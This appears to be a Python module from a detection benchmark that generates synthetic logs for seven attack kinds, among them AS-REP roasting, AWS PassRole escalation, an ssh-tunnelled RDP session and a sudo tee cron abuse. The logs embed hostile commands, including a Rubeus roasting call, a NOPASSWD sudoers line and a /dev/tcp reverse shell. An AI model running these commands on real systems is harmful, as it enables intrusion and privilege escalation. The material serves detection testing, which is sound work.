"""Round 26: attack kinds nobody on the team had written (``--attacks novel26``).

Opt-in by name or ``--attacks novel26``: no other group holds them, and each attack draws from
its own random stream, so every existing seed set generates byte-identical scenarios. Three are
slow credential misuse: an IAM Roles Anywhere trust anchor (the operator's own CA) and profile
made with an engineer's stolen session, after which a certificate fetches the engineer's role
credentials from abroad on several evenings (CloudTrail); targeted AS-REP roasting, where an
office account with delegated rights turns off Kerberos pre-authentication on a colleague's
account (4738), takes the roastable TGT and uses the cracked password on later evenings (HELK
Windows JSON); and a pre-Windows 2000 computer account (created long ago, never joined, its
password its own name) used from an office workstation on several evenings (HELK). Two are
lateral movement: one local Administrator password (no LAPS) tried over the network from one
workstation to others over several evenings (HELK), and RDP tunnelled through the Linux bastion
(``ssh -L``) with an admin's password, so Windows servers see RDP logons from the bastion's
address (syslog + HELK). Two are privilege abuse: ``iam:PassRole`` of an admin role to a new
CodeBuild project whose build attaches ``AdministratorAccess`` to the engineer's own user
(CloudTrail), and an engineer's narrow ``sudo tee`` rule used to write ``/etc/cron.d`` so root
runs the operator's command (syslog).
"""

from __future__ import annotations

from typing import Any

from benchmarks.scenario.context import (
    ATTACKER_CLI,
    CREDENTIAL_MISUSE,
    LATERAL_MOVEMENT,
    PRIVILEGE_ABUSE,
    AttackKind,
    Context,
    Injected,
    access_key_id,
    aws_person,
    random_hex,
)
from benchmarks.scenario.formats import ADMIN_PRIVILEGES
from benchmarks.scenario.generator import (
    ADMIN,
    ENGINEER,
    MINUTE,
    OFFICE,
    Host,
    assume_role,
    public_ip,
)
from benchmarks.scenario.more_threats import LocalAccount

_CMD = "C:\\Windows\\System32\\cmd.exe"
_NET = "C:\\Windows\\System32\\net.exe"
_RUBEUS = "C:\\Users\\Public\\Rubeus.exe"
_NULL_GUID = "{00000000-0000-0000-0000-000000000000}"
_BOTO = "Boto3/1.34.14 md/Botocore#1.34.14 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.7"
_SIGNER_UA = "aws_signing_helper/1.1.1"
_REDACTED = "<sensitiveDataRemoved>"
# 4738's Old/NewUacValue are SAM account flags (not LDAP userAccountControl bits): 0x10 a normal
# account, 0x200 "don't expire password", 0x10000 "don't require Kerberos pre-authentication".
_NORMAL_ACCOUNT, _DONT_EXPIRE, _DONT_REQ_PREAUTH = 0x10, 0x200, 0x10000


def _sid(ctx: Context, rid: int) -> str:
    rng = ctx.rng
    return (
        "S-1-5-21-" + "-".join(str(rng.randrange(10**9, 4 * 10**9)) for _ in range(3)) + f"-{rid}"
    )


def _local_ntlm_logon(ctx: Context, t: int, host: Host, local: LocalAccount, src: Host) -> str:
    """4776 on the target itself (a local SAM account is validated there, not on a DC) and
    4624 type 3 NTLM + 4672 whose ``TargetDomainName`` is the host's own name; returns the
    logon id."""
    win, rng = ctx.world.win, ctx.rng
    win.sink.win(t - 40, host, 4776, {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": local.sam,
        "Workstation": src.name, "Status": "0x0",
    }, actor=local.actor)  # fmt: skip
    logon_id = win.new_logon_id()
    fields: dict[str, Any] = {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
        "SubjectLogonId": "0x0", "TargetUserSid": local.sid, "TargetUserName": local.sam,
        "TargetDomainName": host.name, "TargetLogonId": logon_id, "LogonType": "3",
        "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
        "WorkstationName": src.name, "LogonGuid": _NULL_GUID, "TransmittedServices": "-",
        "LmPackageName": "NTLM V2", "KeyLength": "128", "ProcessId": "0x0", "ProcessName": "-",
        "IpAddress": src.ip, "IpPort": str(rng.randrange(49152, 65535)),
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-",
        "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
        "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842",
    }  # fmt: skip
    win.sink.win(t, host, 4624, fields, actor=local.actor)
    win.sink.win(t, host, 4672, {
        "SubjectUserSid": local.sid, "SubjectUserName": local.sam,
        "SubjectDomainName": host.name, "SubjectLogonId": logon_id,
        "PrivilegeList": ADMIN_PRIVILEGES,
    }, actor=local.actor)  # fmt: skip
    return logon_id


# --------------------------------------------------------------------------------------------
# credential_misuse


def aws_roles_anywhere_slow(ctx: Context) -> Injected:
    """Persistence with IAM Roles Anywhere: an engineer's stolen role session (from a hosting
    address at night) registers the operator's own CA as a trust anchor and a profile for the
    engineer's role; on three or four evenings over about ten days a certificate from that CA
    gets the role's credentials (``rolesanywhere:CreateSession``) from a residential address
    abroad, and the session lists and reads a little each time. No access key of the engineer's
    is used after the first night."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    proxy = public_ip(rng, "hosting")
    day = ctx.weekday(10)
    t = ctx.night(day, victim)
    session = assume_role(world, victim, t, proxy, ATTACKER_CLI, rng)
    name = rng.choice(("ops-pki", "build-ca", "edge-devices", "iot-fleet"))
    anchor = f"{random_hex(ctx, 8)}-{random_hex(ctx, 4)}-{random_hex(ctx, 4)}-{random_hex(ctx, 12)}"
    profile = (
        f"{random_hex(ctx, 8)}-{random_hex(ctx, 4)}-{random_hex(ctx, 4)}-{random_hex(ctx, 12)}"
    )
    prefix = f"arn:aws:rolesanywhere:{trail.region}:{org.aws_account}"
    role_arn = f"arn:aws:iam::{org.aws_account}:role/{victim.aws_role}"
    for call, params, response in (
        ("CreateTrustAnchor", {"name": name, "enabled": True, "source": {
            "sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": _REDACTED}}},
         {"trustAnchor": {"trustAnchorArn": f"{prefix}:trust-anchor/{anchor}"}}),
        ("CreateProfile", {"name": name, "enabled": True, "roleArns": [role_arn]},
         {"profile": {"profileArn": f"{prefix}:profile/{profile}"}}),
    ):  # fmt: skip
        t += rng.randrange(20, 120) * 1000
        trail.call(t, session, "rolesanywhere.amazonaws.com", call, ip=proxy,
                   user_agent=ATTACKER_CLI, params=params, response=response, read_only=False,
                   actor=victim.actor)  # fmt: skip
    serial = random_hex(ctx, 32)
    certificate = {"type": "Unknown", "principalId": serial, "accountId": org.aws_account,
                   "userName": f"CN={name}-client"}  # fmt: skip
    role_id = "AROA" + random_hex(ctx, 17).upper()
    ip = public_ip(rng)
    reads = [
        ("s3.amazonaws.com", "ListBuckets"),
        ("secretsmanager.amazonaws.com", "ListSecrets"),
        ("secretsmanager.amazonaws.com", "GetSecretValue"),
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("ssm.amazonaws.com", "GetParametersByPath"),
        ("iam.amazonaws.com", "ListRoles"),
    ]
    day += rng.randrange(2, 4)
    done, wanted, calls = 0, rng.randrange(3, 5), 0
    while day < world.days and done < wanted:
        t = ctx.evening(day, victim)
        trail.call(t, certificate, "rolesanywhere.amazonaws.com", "CreateSession", ip=ip,
                   user_agent=_SIGNER_UA,
                   params={"trustAnchorArn": f"{prefix}:trust-anchor/{anchor}",
                           "profileArn": f"{prefix}:profile/{profile}", "roleArn": role_arn,
                           "durationSeconds": 3600},
                   read_only=False, actor=victim.actor)  # fmt: skip
        role = trail.assumed_role(victim.aws_role, role_id, serial, access_key_id(ctx, "ASIA"),
                                  t, mfa=False)  # fmt: skip
        for source, call in rng.sample(reads, rng.randrange(2, 4)):
            t += rng.randrange(10, 120) * 1000
            params = {"secretId": "prod/api"} if call == "GetSecretValue" else None
            trail.call(t, role, source, call, ip=ip, user_agent=_BOTO, params=params,
                       actor=victim.actor)  # fmt: skip
            calls += 1
        done += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"{victim.sam}'s session (from {proxy}) adds trust anchor '{name}'; a certificate from "
        f"it takes {victim.aws_role} credentials from {ip} on {done} evening(s), {calls} call(s)",
        users=[victim.actor],
        ips=[proxy, ip],
        primary=("user", victim.actor),
    )


def preauth_disabled_roast_slow(ctx: Context) -> Injected:
    """Targeted AS-REP roasting: an office account with delegated rights over user objects (a
    site IT contact) is compromised; in the evening, from its workstation, it turns on "Do not
    require Kerberos pre-authentication" on a colleague's account (4738, the UAC bit), asks the
    DC for that account's TGT without pre-authentication (4768 PreAuthType 0, RC4: the reply is
    crackable offline) and turns the bit off again. On three later evenings the cracked password
    logs on as the colleague from that workstation to the colleague's servers and to one the
    colleague never uses."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    actor = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    victim = ctx.pick([p for p in org.humans if p.role in (OFFICE, ENGINEER) and p.servers])
    day = ctx.weekday(10)
    ws, ip = ctx.ws_ip(actor, day)
    dc = org.dc_for(actor)
    t = ctx.evening(day, actor)
    desktop = win.new_logon_id()
    old = _NORMAL_ACCOUNT | _DONT_EXPIRE * rng.randrange(2)  # maybe "password never expires"
    for k, (before, after, text) in enumerate(
        ((old, old | _DONT_REQ_PREAUTH, "%%2096"), (old | _DONT_REQ_PREAUTH, old, "%%2064"))
    ):
        when = t + k * rng.randrange(4, 15) * MINUTE
        if k == 0:
            win.process(when - 1500, ws, actor, desktop, _CMD,
                        f"powershell.exe Set-ADAccountControl {victim.sam} "
                        "-DoesNotRequirePreAuth $true", parent=_CMD)  # fmt: skip
        fields: dict[str, Any] = {
            "TargetUserName": victim.sam, "TargetDomainName": org.netbios,
            "TargetSid": victim.sid, "SubjectUserSid": actor.sid, "SubjectUserName": actor.sam,
            "SubjectDomainName": org.netbios, "SubjectLogonId": win.new_logon_id(),
            "PrivilegeList": "-", "SamAccountName": "-", "DisplayName": "-",
            "UserPrincipalName": "-", "HomeDirectory": "-", "HomePath": "-", "ScriptPath": "-",
            "ProfilePath": "-", "UserWorkstations": "-", "PasswordLastSet": "-",
            "AccountExpires": "-", "PrimaryGroupId": "-", "AllowedToDelegateTo": "-",
            "OldUacValue": hex(before), "NewUacValue": hex(after),
            "UserAccountControl": f"\r\n\t\t{text}", "UserParameters": "-", "SidHistory": "-",
            "LogonHours": "-",
        }  # fmt: skip
        win.sink.win(when, dc, 4738, fields, actor=actor.actor)
        if k == 0:
            win.process(when + 20_000, ws, actor, desktop, _RUBEUS,
                        f"Rubeus.exe asreproast /user:{victim.sam} /format:hashcat",
                        parent=_CMD)  # fmt: skip
            win.sink.win(when + 21_000, dc, 4768, {
                "TargetUserName": victim.sam, "TargetDomainName": org.netbios,
                "TargetSid": victim.sid, "ServiceName": "krbtgt",
                "ServiceSid": f"{win.domain_sid}-502", "TicketOptions": "0x40800010",
                "Status": "0x0", "TicketEncryptionType": "0x17", "PreAuthType": "0",
                "IpAddress": f"::ffff:{ip}", "IpPort": str(rng.randrange(49152, 65535)),
                "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": "",
            }, actor=victim.actor)  # fmt: skip
    own = sorted(victim.servers)
    others = ctx.hosts_outside(victim, day, kinds=("file", "sql", "app"))
    targets = [org.hosts[s] for s in own[:1]] + others[:1]
    day += rng.randrange(2, 4)
    done = 0
    while day < world.days and done < 3:
        t = ctx.evening(day, actor)
        ws, ip = ctx.ws_ip(actor, day)
        win.tgt(t - 900, dc, victim, ip)
        for host in targets[: 1 + (done > 0)]:
            t += rng.randrange(1, 6) * MINUTE
            win.tgs(t - 300, dc, victim, ip, host)
            session = win.logon(t, host, victim, 3, src=ws)
            win.share(t + 500, host, victim, session, ip, rng.choice(("Finance", "Projects",
                                                                     "HR", "Data")))  # fmt: skip
            win.logoff(t + rng.randrange(3, 25) * MINUTE, host, victim, session, 3)
        done += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"{actor.sam} turns off pre-authentication on {victim.sam}, roasts its TGT from "
        f"{ws.name} ({ip}); {victim.sam}'s password is used from there on {done} evening(s)",
        users=[victim.actor, actor.actor],
        hosts=[ws.short, *(h.short for h in targets)],
        ips=[ip],
        primary=("user", victim.actor),
    )


def legacy_computer_account_slow(ctx: Context) -> Injected:
    """A pre-Windows 2000 computer account: created years ago for a kiosk that never joined,
    so its password is still its own name in lower case. The operator, on an office
    workstation in the evening, gets a TGT as that computer account and uses it on three or
    four evenings over about ten days: LDAP reads on the DC and network logons to file servers,
    reading shares. The account never logged on before and has no host behind it."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    owner = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.weekday(10)
    name = rng.choice(("KIOSK", "LOBBY", "PRINT", "SCAN", "POS")) + f"-{rng.randrange(1, 20):02d}"
    kiosk = LocalAccount(
        sam=f"{name}$", sid=_sid(ctx, rng.randrange(1100, 1400)),
        dn=f"CN={name},CN=Computers,{org.base_dn}", display=name, actor="",
    )  # fmt: skip
    dc = org.dc_for(owner)
    servers = [h for h in org.servers("file", "sql") if h.since_day <= day]
    targets = rng.sample(servers, min(len(servers), 2))
    done, wanted = 0, rng.randrange(3, 5)
    ws, ip = ctx.ws_ip(owner, day)
    while day < world.days and done < wanted:
        ws, ip = ctx.ws_ip(owner, day)
        t = ctx.evening(day, owner)
        win.tgt(t, dc, kiosk, ip)
        t += rng.randrange(5, 60) * 1000
        win.tgs(t, dc, kiosk, ip, dc)
        ldap = win.logon(t + 200, dc, kiosk, 3, src=ws)
        win.logoff(t + rng.randrange(20, 90) * 1000, dc, kiosk, ldap, 3)
        for host in targets[: 1 + (done > 0)]:
            t += rng.randrange(2, 10) * MINUTE
            win.tgs(t - 300, dc, kiosk, ip, host)
            session = win.logon(t, host, kiosk, 3, src=ws)
            for _ in range(rng.randrange(2, 5)):
                t += rng.randrange(5, 60) * 1000
                win.share(t, host, kiosk, session, ip, rng.choice(("Finance", "Data", "HR")),
                          relative=random_hex(ctx, 6))  # fmt: skip
            win.logoff(t + rng.randrange(1, 10) * MINUTE, host, kiosk, session, 3)
        done += 1
        day += rng.randrange(2, 4)
    return Injected(
        f"computer account {kiosk.sam} (never joined, no host) logs on from {ws.name} ({ip}) "
        f"to {dc.name} and {', '.join(h.name for h in targets)} on {done} evening(s)",
        users=[owner.actor],
        hosts=[name.lower(), ws.short, *(h.short for h in targets)],
        ips=[ip],
        primary=("host", name.lower()),
    )


# --------------------------------------------------------------------------------------------
# lateral_movement


def local_admin_reuse_spread(ctx: Context) -> Injected:
    """No LAPS: every workstation's built-in Administrator has the same password (the imaging
    default). From a compromised office workstation, on three or four evenings over about a
    week, that local account logs on over the network (NTLM, validated by each target's own
    SAM) to two or three other people's workstations a night and reads ``C$``."""
    world, rng, org, win = ctx.world, ctx.rng, ctx.org, ctx.world.win
    owner = ctx.pick([p for p in org.humans if p.role == OFFICE and p.first_day == 0])
    day = ctx.weekday(8)
    ws, ip = ctx.ws_ip(owner, day)
    others = sorted(
        {h.name: h for p in org.humans if p is not owner
         for h in [p.workstation_on(day)] if h is not None and h.name != ws.name}.values(),
        key=lambda h: h.name,
    )  # fmt: skip
    pool = rng.sample(others, min(len(others), 12))
    reached: list[Host] = []
    done, wanted = 0, rng.randrange(3, 5)
    while day < world.days and done < wanted and pool:
        t = ctx.evening(day, owner)
        for _ in range(min(len(pool), rng.randrange(2, 4))):
            host = pool.pop()
            local = LocalAccount(sam="Administrator", sid=_sid(ctx, 500), dn="Administrator",
                                 display="Administrator", actor="administrator")  # fmt: skip
            t += rng.randrange(1, 9) * MINUTE
            session = _local_ntlm_logon(ctx, t, host, local, ws)
            win.share(t + 300, host, local, session, ip, "C$", local_path="\\??\\C:\\")
            win.share(t + 900, host, local, session, ip, "C$", local_path="\\??\\C:\\",
                      relative="Users", access_mask="0x1")  # fmt: skip
            win.logoff(t + rng.randrange(1, 6) * MINUTE, host, local, session, 3)
            reached.append(host)
        done += 1
        day += rng.randrange(1, 3)
    return Injected(
        f"the shared local Administrator password used from {ws.name} ({ip}) on "
        f"{len(reached)} workstation(s) over {done} evening(s)",
        users=["administrator"],
        hosts=[ws.short, *(h.short for h in reached)],
        ips=[ip],
        primary=("host", ws.short),
    )


def ssh_tunnel_rdp_bastion(ctx: Context) -> Injected:
    """RDP through the Linux bastion: with an engineer's stolen ssh key, at night over the VPN,
    the operator opens a long session to the bastion with a local port forward
    (``ssh -L 13389:APP02:3389``; sshd does not log forwards) and, through it, RDPs to two
    Windows servers with an admin's stolen password. The servers log admin RDP logons from the
    bastion's address, a Linux host that never opens RDP, named after the operator's machine;
    the DC validates the password over NTLM (no Kerberos through the tunnel)."""
    world, rng, org, win, linux = ctx.world, ctx.rng, ctx.org, ctx.world.win, ctx.world.linux
    engineer = ctx.pick(
        [p for p in org.humans if p.role == ENGINEER and p.uid and p.first_day == 0]
    )
    admin = ctx.pick(org.role(ADMIN))
    day = ctx.day(1)
    t = ctx.night(day, engineer)
    linux.ssh_session(t, "bastion01", engineer.sam, engineer.uid, world.vpn_ip(rng),
                      rng.randrange(60, 150) * MINUTE, key_fingerprint=engineer.ssh_key,
                      actor=engineer.actor)  # fmt: skip
    bastion = org.bastion.ip
    client = "DESKTOP-" + random_hex(ctx, 7, upper=True)
    # the operator's own machine, as RDP names it; its address is the tunnel's end, the bastion
    laptop = Host(client, client.lower(), bastion, "workstation", admin.site.tz, 0,
                  _sid(ctx, rng.randrange(1100, 1400)), "")  # fmt: skip
    dc = org.dc_for(admin)
    servers = [h for h in org.servers("app", "sql", "file", "web") if h.since_day <= day]
    targets = rng.sample(servers, min(len(servers), 2))
    for host in targets:
        t += rng.randrange(3, 20) * MINUTE
        win.ntlm_validation(t - 200, dc, admin.sam, client, actor=admin.actor)
        session = win.logon(t, host, admin, 10, src=laptop, privileges=ADMIN_PRIVILEGES)
        win.process(t + 30_000, host, admin, session,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe", elevated=True)  # fmt: skip
        win.logoff(t + rng.randrange(10, 40) * MINUTE, host, admin, session, 10)
    return Injected(
        f"{engineer.sam}'s key opens a tunnel on bastion01; {admin.sam} RDPs from the bastion "
        f"({bastion}, client {client}) to {', '.join(h.name for h in targets)} at night",
        users=[admin.actor, engineer.actor],
        hosts=["bastion01", *(h.short for h in targets)],
        ips=[bastion],
        primary=("user", admin.actor),
    )


# --------------------------------------------------------------------------------------------
# privilege_abuse


def aws_codebuild_passrole_admin(ctx: Context) -> Injected:
    """``iam:PassRole`` to CodeBuild: an engineer's stolen role session (hosting address, at
    night) creates a build project whose service role is the deployment admin role, with an
    inline buildspec, and starts a build; the build, as that role from AWS's own addresses,
    attaches ``AdministratorAccess`` to the engineer's IAM user; the project is deleted and the
    engineer's access key then makes admin calls from the operator's address."""
    world, rng, org, trail = ctx.world, ctx.rng, ctx.org, ctx.world.trail
    victim = aws_person(ctx, ENGINEER)
    ip = public_ip(rng, "hosting")
    day = ctx.day(2)
    t = ctx.night(day, victim)
    session = assume_role(world, victim, t, ip, ATTACKER_CLI, rng)
    project = rng.choice(("cache-warmup", "lint-nightly", "docs-build", "deps-audit"))
    role = rng.choice(("codebuild-deploy-admin", "ci-release-admin", "platform-deployer"))
    role_arn = f"arn:aws:iam::{org.aws_account}:role/{role}"
    arn = f"arn:aws:codebuild:{trail.region}:{org.aws_account}:project/{project}"
    build = f"{project}:{random_hex(ctx, 8)}-{random_hex(ctx, 4)}-{random_hex(ctx, 4)}"
    for source, call, params, response, read_only in (
        ("iam.amazonaws.com", "ListRoles", None, None, True),
        ("codebuild.amazonaws.com", "CreateProject",
         {"name": project, "source": {"type": "NO_SOURCE", "buildspec": _REDACTED},
          "serviceRole": role_arn, "environment": {"type": "LINUX_CONTAINER",
                                                   "image": "aws/codebuild/standard:7.0",
                                                   "computeType": "BUILD_GENERAL1_SMALL"},
          "artifacts": {"type": "NO_ARTIFACTS"}},
         {"project": {"arn": arn, "serviceRole": role_arn}}, False),
        ("codebuild.amazonaws.com", "StartBuild", {"projectName": project},
         {"build": {"id": build, "arn": f"{arn.replace(':project/', ':build/')}"}}, False),
    ):  # fmt: skip
        t += rng.randrange(20, 120) * 1000
        trail.call(t, session, source, call, ip=ip, user_agent=ATTACKER_CLI, params=params,
                   response=response, read_only=read_only, actor=victim.actor)  # fmt: skip
    ran = t + rng.randrange(1, 4) * MINUTE
    build_ip = f"3.{rng.randrange(80, 96)}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}"
    runner = f"AWSCodeBuild-{random_hex(ctx, 8)}"  # the session name CodeBuild gives a build
    build_session = trail.assumed_role(role, "AROA" + random_hex(ctx, 17).upper(), runner,
                                       access_key_id(ctx, "ASIA"), ran, mfa=False)  # fmt: skip
    trail.call(ran, build_session, "iam.amazonaws.com", "AttachUserPolicy", ip=build_ip,
               user_agent=_BOTO,
               params={"userName": victim.sam,
                       "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
               read_only=False, actor=victim.actor)  # fmt: skip
    t = ran + rng.randrange(3, 10) * MINUTE
    trail.call(t, session, "codebuild.amazonaws.com", "DeleteProject", ip=ip,
               user_agent=ATTACKER_CLI, params={"name": project}, read_only=False,
               actor=victim.actor)  # fmt: skip
    key = trail.iam_user(victim.sam, victim.aws_principal, victim.aws_keys[0])
    calls = 0
    for source, call in rng.sample(
        [
            ("iam.amazonaws.com", "ListUsers"),
            ("iam.amazonaws.com", "CreateUser"),
            ("secretsmanager.amazonaws.com", "ListSecrets"),
            ("kms.amazonaws.com", "ListKeys"),
            ("organizations.amazonaws.com", "ListAccounts"),
        ],
        3,
    ):
        t += rng.randrange(10, 90) * 1000
        params = {"userName": f"svc-{random_hex(ctx, 5)}"} if call == "CreateUser" else None
        trail.call(t, key, source, call, ip=ip, user_agent=_BOTO, params=params,
                   read_only=call.startswith("List"), actor=victim.actor)  # fmt: skip
        calls += 1
    return Injected(
        f"{victim.sam}'s session (from {ip}) passes {role} to CodeBuild project {project}; "
        f"the build attaches AdministratorAccess to {victim.sam}, whose key makes {calls} "
        "admin call(s)",
        users=[victim.actor, runner.lower()],
        ips=[ip],
        primary=("user", victim.actor),
    )


def sudo_tee_cron_root(ctx: Context) -> Injected:
    """An engineer's narrow sudo rule (``tee`` into the application's config directory, with a
    wildcard) abused at night with the engineer's stolen key: ``sudo tee`` with a ``..`` path
    writes ``/etc/cron.d``, and cron then runs the operator's command as root every few minutes
    until it is removed (a shell to an outside address), then the engineer's account opens a
    root shell with the sudoers line the cron job added."""
    world, rng, org, linux = ctx.world, ctx.rng, ctx.org, ctx.world.linux
    people = [p for p in org.humans if p.role == ENGINEER and p.uid and p.first_day == 0]
    victim = ctx.pick([p for p in people if "lnx-app01" in p.linux_hosts] or people)
    host = "lnx-app01"
    day = ctx.day(1)
    t = ctx.night(day, victim)
    source = world.vpn_ip(rng)
    linux.ssh_session(t, "bastion01", victim.sam, victim.uid, source, 70 * MINUTE,
                      key_fingerprint=victim.ssh_key, actor=victim.actor)  # fmt: skip
    t += rng.randrange(1, 5) * MINUTE
    linux.ssh_session(t, host, victim.sam, victim.uid, org.bastion.ip, 60 * MINUTE,
                      key_fingerprint=victim.ssh_key, actor=victim.actor)  # fmt: skip
    job = rng.choice(("app-logrotate", "app-cache", "app-metrics"))
    t += rng.randrange(1, 4) * MINUTE
    linux.sudo(t, host, victim.sam, victim.uid, f"/usr/bin/tee /etc/app/../cron.d/{job}",
               actor=victim.actor)  # fmt: skip
    out = public_ip(rng, "hosting")
    command = (
        f'/bin/bash -c \'echo "{victim.sam} ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/{job}; '
        f"bash -i >& /dev/tcp/{out}/443 0>&1'"
    )
    first = t + rng.randrange(1, 5) * MINUTE
    for k in range(rng.randrange(3, 6)):
        when = first + k * 5 * MINUTE
        linux.sink.syslog(when, host, "CRON", f"(root) CMD ({command})")
        linux.cron(when, host)
    t = first + rng.randrange(6, 20) * MINUTE
    linux.sudo(t, host, victim.sam, victim.uid, "/bin/bash", duration_ms=15 * MINUTE,
               actor=victim.actor)  # fmt: skip
    return Injected(
        f"{victim.sam}'s sudo tee rule writes /etc/cron.d/{job} on {host}; cron runs it as "
        f"root (shell to {out}, a sudoers line), then {victim.sam} opens a root shell",
        users=[victim.actor],
        hosts=[host, "bastion01"],
        ips=[source, out],
        primary=("user", victim.actor),
    )


NOVEL26: dict[str, AttackKind] = {
    kind.name: kind
    for kind in (
        AttackKind(
            "aws_roles_anywhere_slow",
            CREDENTIAL_MISUSE,
            "Account Manipulation: a Roles Anywhere trust anchor used for the role over days",
            ("T1098.001", "T1078.004"),
            aws_roles_anywhere_slow,
        ),
        AttackKind(
            "preauth_disabled_roast_slow",
            CREDENTIAL_MISUSE,
            "Steal or Forge Kerberos Tickets: pre-authentication turned off, roasted, used",
            ("T1558.004", "T1098"),
            preauth_disabled_roast_slow,
        ),
        AttackKind(
            "legacy_computer_account_slow",
            CREDENTIAL_MISUSE,
            "Valid Accounts: a pre-Windows 2000 computer account's default password used",
            ("T1078.002",),
            legacy_computer_account_slow,
        ),
        AttackKind(
            "local_admin_reuse_spread",
            LATERAL_MOVEMENT,
            "Use Alternate Authentication Material: a shared local Administrator password",
            ("T1078.003", "T1021.002"),
            local_admin_reuse_spread,
        ),
        AttackKind(
            "ssh_tunnel_rdp_bastion",
            LATERAL_MOVEMENT,
            "Protocol Tunneling: RDP to servers through an ssh port forward on the bastion",
            ("T1572", "T1021.001"),
            ssh_tunnel_rdp_bastion,
        ),
        AttackKind(
            "aws_codebuild_passrole_admin",
            PRIVILEGE_ABUSE,
            "Abuse Elevation Control: an admin role passed to a CodeBuild project",
            ("T1548", "T1098.003"),
            aws_codebuild_passrole_admin,
        ),
        AttackKind(
            "sudo_tee_cron_root",
            PRIVILEGE_ABUSE,
            "Scheduled Task/Job: a narrow sudo tee rule writes a root cron job",
            ("T1053.003", "T1548.003"),
            sudo_tee_cron_root,
        ),
    )
}
